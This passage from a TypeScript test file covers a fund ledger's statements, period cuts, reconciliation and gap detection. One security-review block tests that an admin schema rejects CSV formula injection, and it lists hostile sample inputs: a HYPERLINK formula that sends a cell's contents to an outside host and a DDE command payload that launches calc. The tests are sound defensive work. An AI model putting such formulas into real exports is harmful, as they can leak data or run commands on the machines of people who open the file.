        fc.uniqueArray(fc.integer({ min: 0, max: 101 }), { minLength: 2, maxLength: 6 }),
        fc.integer({ min: 1, max: 7 }),
        (moves, edges, page) => {
          const entries = journal(
            moves.map((m) => [m.kind, (m.cents / 100).toFixed(2)] as const),
            moves.map((m) => m.atMs),
          );
          const times = [...edges].sort((a, b) => a - b);
          const seen: number[] = [];
          let closing: bigint | undefined;
          for (let i = 0; i + 1 < times.length; i++) {
            const { state, inPeriod } = cut(
              entries,
              { from: { atMs: times[i]! }, to: { atMs: times[i + 1]! } },
              page,
            );
            const s = buildStatement({
              account: FUND,
              entries: inPeriod,
              before: state.before ?? { start: true, sequence: 0, balanceAfter: 0n },
            });
            expect(s.reconciles).toBe(true);
            expect(s.totals.debit).toBe(s.totals.credit);
            // Each period opens where the one before closed, when it is the first's successor.
            if (closing !== undefined && i > 0) expect(s.opening).toBe(closing);
            closing = s.closing;
            seen.push(...inPeriod.map((e) => e.sequence));
            for (const e of inPeriod) expect(e.atMs).toBeLessThan(times[i + 1]!);
          }
          // In sequence order, none twice: a contiguous run of the journal.
          expect(seen).toEqual([...seen].sort((a, b) => a - b));
          expect(new Set(seen).size).toBe(seen.length);
          if (seen.length > 0) expect(seen[seen.length - 1]! - seen[0]! + 1).toBe(seen.length);
        },
      ),
    );
  });
});

describe("the CSV's text cells (a security review, session 48)", () => {
  // `reference` and `key` carry a position's id (a liquidation's id begins with it) or a fund key, the only text
  // from outside the operator in the postings. The CSV does not guard against spreadsheet formulas: these ids can
  // begin with none of =, +, @, tab or CR, and what a "-" can start holds no call (no parenthesis, quote, | or !).
  it('has the ids it carries begin with no formula sign but "-", and hold no character a call needs', () => {
    const open = (id: string) => ({
      action: 'openPosition',
      id,
      traderId: 't',
      symbol: 'ETH-USD',
      side: 'LONG',
      size: '1',
      entryPrice: '100',
      collateral: '10',
    });
    // With an operator (required since session 51): without it every deposit was refused, whatever its key.
    const deposit = (key: string) => ({
      action: 'deposit',
      amount: '1',
      idempotencyKey: key,
      operator: 'jane',
    });
    expect(adminRequestSchema.safeParse(deposit('k1')).success).toBe(true);
    for (const sign of ['=', '+', '@', '\t', '\r', '|', '(', '"', '!'])
      for (const request of [
        open(`${sign}p1`),
        deposit(`${sign}k1`),
        open(`p${sign}1`),
        deposit(`k${sign}1`),
      ])
        expect(adminRequestSchema.safeParse(request).success, JSON.stringify(request)).toBe(false);
    expect(adminRequestSchema.safeParse(open('-p1')).success).toBe(true);
  });

  // review51-admin-operator-formula: `declaredOperator`, a CSV column since session 51, is whatever the admin
  // function's invoker wrote: a cell it began with a formula sign, a spreadsheet would run.
  it('refuses a declared operator a spreadsheet would read as a formula: it begins with a letter or a digit', () => {
    const deposit = (operator: string) => ({
      action: 'deposit',
      amount: '1',
      idempotencyKey: 'k1',
      operator,
    });
    for (const operator of [
      '=HYPERLINK("https://example.com/?"&A1,"jane")',
      "+1+cmd|' /C calc'!A0",
      '-1+1',
      '@SUM(1+1)',
      ' =1+1', // trimmed first: the cell would begin with =
      '\uff1d1+1', // a full-width equals sign, which some spreadsheets take for one
      '(ops) jane',
    ])
      expect(adminRequestSchema.safeParse(deposit(operator)).error?.issues[0]?.message, operator).toBe(
        'must begin with a letter or a digit (a spreadsheet reads a cell beginning with = + - @ as a formula)',
      );
    for (const operator of ['arn:aws:iam::123456789012:user/jane', 'Zoë (treasury)', '42-ops', 'jane=ops'])
      expect(adminRequestSchema.safeParse(deposit(operator)).success, operator).toBe(true);
  });
});

// Stryker's survivors (session 50): the edges where a balance is unknown, the chart's words, each break's fields.
describe('the statement where a balance is unknown, and each field of a break', () => {
  const base = journal([
    ['deposit', '100'],
    ['liquidation-fee', '10'],
    ['shortfall-payout', '-30'],
    ['liquidation-fee', '5'],
    ['deposit', '1'],
  ]);
  const unknown = { start: true, sequence: 2 } as const; // the read began past entry 2: its balance unknown

  it("names the chart's movements, and refuses an unknown kind naming the kinds it has", () => {
    expect(FUND_KINDS.map((k) => FUND_CHART[k].label)).toEqual([
      'fees earned',
      'shortfalls paid',
      'deposited',
      'withdrawn',
      'opening entry',
    ]);
    const [entry] = journal([['fee', '1']]);
    const error = (() => {
      try {
        postingsOf(entry!);
      } catch (e) {
        return e as StatementError;
      }
    })();
    expect(error?.name).toBe('StatementError');
    expect(error?.message).toBe(
      'statement/unknown-kind: entry 1 (key k1) has kind "fee", which the fund\'s chart of accounts does not name ' +
        '(liquidation-fee, shortfall-payout, deposit, withdraw, fund-start): nothing is booked for an unknown kind',
    );
    expect(PERIOD_RULE).toContain('from the first entry, in sequence order, stamped at or after --from');
    expect(PERIOD_RULE).toContain(
      'up to, not including, the first entry from there on stamped at or after --to',
    );
  });

  it('a period from a sequence to a time skips the entries before its start, whatever their stamps', () => {
    const stamped = journal(
      [
        ['deposit', '100'],
        ['deposit', '1'],
        ['deposit', '2'],
        ['deposit', '3'],
      ],
      [200, 10, 50, 60],
    );
    const { state, inPeriod } = cut(stamped, { from: { sequence: 3 }, to: { atMs: 100 } }, 4);
    expect(inPeriod.map((e) => e.sequence)).toEqual([3, 4]);
    expect(state).toEqual({ phase: 'in', before: stamped[1] });
    // No end: the entries before the start are skipped, the rest are in.
    const open = cut(stamped, { from: { sequence: 2 }, to: undefined }, 4);
    expect(open.inPeriod.map((e) => e.sequence)).toEqual([2, 3, 4]);
    expect(open.state).toEqual({ phase: 'in', before: stamped[0] });
  });

  it('a gap after a read that began past an entry: no amount, its entries missing', () => {
    expect(chainBreaks(unknown, base.slice(4))).toStrictEqual([
      {
        type: 'gap',
        sequence: 5,
        missing: { from: 3, to: 4 },
        message:
          "entries 3 to 4 missing just before the period's first entry 5: its opening balance is not checked against the entry before it",
      },
    ]);
    // The next entry after it: no break, and no start of the journal to begin from 0.
    expect(chainBreaks(unknown, base.slice(2))).toEqual([]);
    expect(chainBreaks(undefined, base.slice(2))).toEqual([]);
  });

  it("the journal's first entry past 1 from 0: nothing moved before it", () => {
    const [, , third] = journal([
      ['deposit', '0'],
      ['deposit', '0'],
      ['deposit', '7'],
    ]);
    expect(
      chainBreaks({ start: true, sequence: 0, balanceAfter: 0n }, [third!]).map((b) => b.message),
    ).toEqual([
      "entries 1 to 2 missing: the journal's first entry is 3 (balance 0.00 before it: 0.00 in no statement)",
    ]);
  });

  it("a balanceAfter off: the break's type", () => {
    const off = { ...base[1]!, balanceAfter: base[1]!.balanceAfter - 1n };
    expect(chainBreaks(base[0], [off]).map((b) => [b.type, b.sequence, b.amount])).toEqual([
      ['arithmetic', 2, -1n],
    ]);
  });

  it('entries missing before the first past the period, each field, with and without a balance known', () => {
    expect(chainBreaks(base[0], [base[1]!], base[4])).toStrictEqual([
      {
        type: 'gap',
        sequence: 5,
        previous: 2,
        amount: usd('-25'),
        missing: { from: 3, to: 4 },
        message:
          'entries 3 to 4 missing between entry 2 and entry 5, the first past the period: of this period or the next, unknown (balance 110.00 after entry 2, 85.00 before entry 5: -25.00 in neither statement)',
      },
    ]);
    expect(chainBreaks(unknown, [], base[4])).toStrictEqual([
      {
        type: 'gap',
        sequence: 5,
        missing: { from: 3, to: 4 },
        message:
          'entries 3 to 4 missing before entry 5, the first past the period: of this period or the next, unknown',
      },
    ]);
    expect(
      chainBreaks({ start: true, sequence: 0, balanceAfter: 0n }, [], base[2]).map((b) => b.message),
    ).toEqual([
      "entries 1 to 2 missing before entry 3, the first past the period: of this period or the next, unknown (balance 0.00 at the journal's start, 110.00 before entry 3: +110.00 in neither statement)",
    ]);
  });

  it("missing at the journal's end: none when the balance is at the last entry read; from a start, known or not", () => {
    expect(endGap(base[4], { sequence: 5, balance: base[4]!.balanceAfter })).toBeUndefined();
    expect(endGap(base[4], { sequence: 4, balance: 0n })).toBeUndefined();
    expect(endGap(unknown, { sequence: 4, balance: usd('80') })).toStrictEqual({
      type: 'gap',
      sequence: 4,
      missing: { from: 3, to: 4 },
      message:
        "entries 3 to 4 missing at the journal's end: the fund's balance, read before the journal, counts them (it is at entry 4) and the journal's index by sequence does not list them (of this period or a later one, unknown)",
    });
    expect(
      endGap({ start: true, sequence: 0, balanceAfter: 0n }, { sequence: 1, balance: usd('100') }),
    ).toStrictEqual({
      type: 'gap',
      sequence: 1,
      amount: usd('100'),
      missing: { from: 1, to: 1 },
      message:
        "entry 1 missing at the journal's end: the fund's balance, read before the journal, counts it (it is at entry 1, +100.00 from the journal's start) and the journal's index by sequence does not list it (of this period or a later one, unknown)",
    });
  });

  it('lags a gap the balance counts up to its last entry, names them, and never lags a break twice', () => {
    const [gap] = chainBreaks(base[1], [base[4]!]);
    const [lagging] = indexLagging([gap!], 4);
    expect(lagging!.type).toBe('lagging');
    expect(lagging!.message).toContain(
      "the fund's balance (at entry 4) counts them and no look finds them left out",
    );
    expect(indexLagging([gap!], 3)).toEqual([gap]);
    expect(indexLagging([lagging!], 4)).toEqual([lagging]);
  });

  it('an empty period with nothing known before it: no opening, closing or difference, and it reconciles', () => {
    const s = buildStatement({ account: FUND, entries: [] });
    expect(s).toMatchObject({ entries: 0, movements: 0n, reconciles: true, breaks: [] });
    for (const key of ['opening', 'closing', 'difference', 'firstSequence'])
      expect(Object.hasOwn(s, key)).toBe(false);
  });

  it('a period with a break does not reconcile, even when its balances add up', () => {
    const fromFive = { ...base[0]!, balanceBefore: usd('5'), balanceAfter: usd('105') };
    const s = buildStatement({
      account: FUND,
      entries: [fromFive],
      before: { start: true, sequence: 0, balanceAfter: 0n },
    });
    expect(s).toMatchObject({ opening: usd('5'), closing: usd('105'), difference: 0n, reconciles: false });
    expect(s.breaks.map((b) => b.type)).toEqual(['start']);
  });
});
